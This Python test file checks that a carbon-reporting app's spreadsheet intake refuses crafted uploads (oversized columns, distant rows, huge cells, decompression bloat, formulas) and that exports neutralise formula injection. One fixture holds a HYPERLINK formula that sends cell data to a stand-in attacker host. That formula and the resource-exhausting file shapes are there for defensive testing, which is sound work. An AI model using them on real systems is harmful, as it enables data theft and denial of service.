# ruff: noqa: E501  (file contents written out in full)
"""Files made to hurt the intake are refused fast and with little memory; exports never carry a live
formula."""

from __future__ import annotations

import io
import resource
import time
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from intakehelpers import enterprise

from carbonpeak.errors import ValidationFailed
from carbonpeak.io.export import export_workbook
from carbonpeak.io.reading import Limits, read_upload
from carbonpeak.services import intake
from carbonpeak.store import db

NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def workbook_bytes(rows_xml: str) -> bytes:
    """A minimal .xlsx (stdlib only) whose sheet holds the template's header and ``rows_xml``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            "</Types>",
        )
        z.writestr(
            "_rels/.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{R}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        z.writestr(
            "xl/workbook.xml",
            f'<workbook {NS} xmlns:r="{R}"><sheets><sheet name="activity" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{R}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        )
        head = '<row r="1">' + "".join(
            f'<c r="{c}1" t="inlineStr"><is><t>{h}</t></is></c>'
            for c, h in zip("ABCDE", ["facility_id", "sector", "region", "period", "output_t"], strict=True)
        )
        z.writestr(
            "xl/worksheets/sheet1.xml", f"<worksheet {NS}><sheetData>{head}</row>{rows_xml}</sheetData></worksheet>"
        )
    return buffer.getvalue()


def peak_during(work) -> tuple[float, int, object]:
    """Seconds, the growth of this process's peak RSS (KiB) and the outcome of ``work``."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    start = time.perf_counter()
    try:
        outcome: object = work()
    except ValidationFailed as exc:
        outcome = exc
    return time.perf_counter() - start, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before, outcome


def test_a_cell_in_column_zzz_on_every_row_is_refused_fast(tmp_path: Path) -> None:
    content = workbook_bytes('<row><c r="ZZZ2" t="inlineStr"><is><t>x</t></is></c></row>' * 20000)
    assert len(content) < 10_000
    seconds, grown_kib, outcome = peak_during(lambda: read_upload(content, "cols.xlsx"))
    assert isinstance(outcome, ValidationFailed)
    assert [e.code for e in outcome.errors] == ["intake.too_many_columns"] and outcome.errors[0].value == "ZZZ"
    assert seconds < 2.0 and grown_kib < 200_000  # was 60 s and 3 GB


def test_rows_far_below_and_too_many_rows_are_refused(tmp_path: Path) -> None:
    far = workbook_bytes('<row r="900000"><c r="A900000" t="inlineStr"><is><t>AL1</t></is></c></row>')
    with pytest.raises(ValidationFailed) as caught:
        read_upload(far, "far.xlsx")
    assert [e.code for e in caught.value.errors] == ["intake.too_many_rows"]
    many = workbook_bytes('<row><c t="inlineStr"><is><t>AL1</t></is></c></row>' * 2001)
    with pytest.raises(ValidationFailed) as caught:
        read_upload(many, "many.xlsx", Limits(max_rows=2000))
    assert [e.code for e in caught.value.errors] == ["intake.too_many_rows"]


def test_a_huge_cell_is_refused_not_stored(tmp_path: Path) -> None:
    huge = "x" * 3_000_000
    content = workbook_bytes(f'<row r="2"><c r="A2" t="inlineStr"><is><t>{huge}</t></is></c></row>')
    assert len(content) < 100_000
    with pytest.raises(ValidationFailed) as caught:
        read_upload(content, "huge.xlsx")
    assert [e.code for e in caught.value.errors] == ["intake.cell_too_long"]


def test_decompressed_size_is_capped(tmp_path: Path) -> None:
    content = workbook_bytes("<row/>" * 200_000)
    with pytest.raises(ValidationFailed) as caught:
        read_upload(content, "big.xlsx", Limits(max_uncompressed_bytes=500_000))
    assert [e.code for e in caught.value.errors] == ["intake.too_large_uncompressed"]


def test_formulas_and_error_values_are_refused_with_their_cells(sqlite_province: str, tmp_path: Path) -> None:
    path = tmp_path / "f.xlsx"
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "activity"
    sheet.append(["facility_id", "sector", "region", "period", "output_t"])
    sheet.append(["AL1", "electrolytic_aluminium", "shaanxi", "2024-03", "=1+2"])
    sheet.append(["AL1", "electrolytic_aluminium", "shaanxi", "2024-04", "1.200,5"])
    book.save(path)
    with db.transaction(sqlite_province) as session, pytest.raises(ValidationFailed) as caught:
        intake.import_file(
            session, enterprise(sqlite_province), path.read_bytes(), "f.xlsx", rejected_dir=tmp_path / "r"
        )
    assert {(e.row, e.field, e.code) for e in caught.value.errors} == {
        (2, "output_t", "intake.formula_cell"),
        (3, "output_t", "intake.number_format"),
    }
    annotated = openpyxl.load_workbook(caught.value.annotated)  # type: ignore[attr-defined]
    assert annotated["activity"]["E3"].comment is not None and "1,200.5" in annotated["activity"]["E3"].comment.text


def test_web_handlers_run_off_the_event_loop() -> None:
    """Upload, correction and API import are plain functions (FastAPI runs them in its thread pool);
    the month form awaits its fields, then hands the work to the pool."""
    import inspect

    from carbonpeak.web import api
    from carbonpeak.web.pages import reporting, submissions

    for handler in (reporting.upload, submissions.correct_month, api.import_upload):
        assert not inspect.iscoroutinefunction(handler), handler.__name__
    assert "run_in_threadpool(_save_month" in inspect.getsource(reporting.save_month_form)


def test_no_formula_reaches_an_exported_workbook(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "facility_name": ['=HYPERLINK("http://evil.example/?"&A2,"点击")', "+SUM(1)", "-2+3", "@cmd", "普通"],
            "output_t": [1.0, 2.0, 3.0, 4.0, 5.0],
        }
    )
    path = export_workbook(tmp_path / "x.xlsx", {"submissions": frame}, lang="zh")
    sheet = openpyxl.load_workbook(path)["submissions"]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert len(texts) == 4 and all(c.data_type == "s" and c.quotePrefix for c in texts)
    assert sheet["A2"].value.startswith("=HYPERLINK")  # the text is kept as written
